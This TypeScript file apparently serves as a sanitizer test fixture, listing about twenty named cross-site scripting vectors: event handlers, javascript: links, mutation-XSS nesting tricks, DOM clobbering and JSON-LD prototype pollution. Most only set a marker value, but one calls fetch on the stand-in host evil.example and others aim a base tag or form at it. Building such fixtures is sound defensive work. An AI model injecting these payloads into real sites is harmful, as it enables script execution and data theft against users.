/** Ways by which pages run what they bring, and tricks by which markup comes alive when it is written out and read again. */
export const hostilePieces: readonly (readonly [string, string])[] = [
  ["a script", `<script>document.stolen = 1; fetch("https://evil.example")</script>`],
  ["a handler on a picture", `<img src="x" onerror="document.stolen = 1">`],
  [
    "a handler on a picture in an SVG",
    `<svg onload="document.stolen = 1"><image href="x" onerror="document.stolen=1"/></svg>`,
  ],
  ["a link that runs", `<a href="javascript:document.stolen = 1">انقر هنا</a>`],
  ["a link that hides what it runs", `<a href="&#106;avascript&colon;document.stolen=1">انقر</a>`],
  ["a frame with a page", `<iframe srcdoc="<script>parent.document.stolen = 1</script>"></iframe>`],
  [
    "an object",
    `<object data="data:text/html,<script>document.stolen=1</script>"></object><embed src="x.swf">`,
  ],
  [
    "a base and a refresh",
    `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:document.stolen=1">`,
  ],
  [
    "a form",
    `<form action="https://evil.example"><button formaction="javascript:document.stolen=1">x</button></form>`,
  ],
  [
    "math and style",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.stolen=1&gt;">`,
  ],
  ["SVG and style", `<svg></p><style><a id="</style><img src=1 onerror=document.stolen=1>"></svg>`],
  [
    "SVG that turns to HTML",
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;document.stolen=1&lt;/script&gt;"></iframe></foreignObject></svg>`,
  ],
  [
    "annotation",
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=document.stolen=1></style></annotation-xml></math>`,
  ],
  [
    "a noscript that closes in an attribute",
    `<noscript><p title="</noscript><img src=x onerror=document.stolen=1>"></noscript>`,
  ],
  [
    "a template",
    `<template><script>document.stolen=1</script><img src=x onerror=document.stolen=1></template>`,
  ],
  [
    "forms in forms",
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=document.stolen=1>`,
  ],
  ["a title", `<title><img src=x onerror=document.stolen=1></title>`],
  [
    "an element that shadows the document",
    `<form name="documentElement"><input name="nodeType"><input name="attributes"></form>`,
  ],
  ["a custom element", `<x-evil onclick="document.stolen=1" is="x-evil">ناقوس</x-evil>`],
  ["a prototype in JSON-LD", `<script type="application/ld+json">{"__proto__":{"stolen":1}}</script>`],
];
